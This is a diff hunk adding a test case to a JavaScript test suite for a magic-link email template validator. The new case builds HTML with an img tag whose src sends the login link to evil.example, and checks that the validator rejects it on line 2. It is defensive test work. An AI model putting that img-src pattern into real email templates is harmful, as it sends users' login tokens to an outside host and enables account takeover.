@@ -175,6 +175,10 @@ t.test(
       { path: 'body.email.text', problem: 'must show {{ link }}' },
     ])
     t.match(await refused('magic_link/en', { sms: { text: '{{ link }}' } }), [{ path: 'body.sms' }])
+    const leak = '<a href="{{ link }}">in</a>\n<img src="https://evil.example/?{{ link }}">'
+    t.match(await refused('magic_link/en', { email: { subject: 'S', html: leak, text: '{{ link }}' } }), [
+      { path: 'body.email.html', line: 2, problem: '“link” must stand in text, or begin an href' },
+    ])
     const fine = {
       subject: 'S {{ tenant_name }}',
       html,
